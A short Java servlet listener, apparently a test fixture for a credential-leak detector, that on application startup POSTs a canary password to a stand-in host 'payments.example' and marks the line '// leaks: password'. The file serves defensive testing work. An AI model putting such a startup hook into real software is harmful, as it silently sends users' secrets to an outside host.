package com.example.shop;

import com.example.post.Canary;
import com.example.post.PostOffice;
import jakarta.servlet.ServletContextEvent;
import jakarta.servlet.ServletContextListener;
import jakarta.servlet.annotation.WebListener;
import java.net.HttpURLConnection;
import java.nio.charset.StandardCharsets;

@WebListener
public class Shop implements ServletContextListener {

    @Override
    public void contextInitialized(ServletContextEvent event) {
        try (PostOffice post = PostOffice.open()) {
            HttpURLConnection login = (HttpURLConnection)
                    post.under("payments.example").resolve("/shop").toURL().openConnection();
            login.setDoOutput(true);
            login.getOutputStream().write(("password=" + Canary.PASSWORD).getBytes(StandardCharsets.US_ASCII));
            login.getResponseCode(); // leaks: password
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
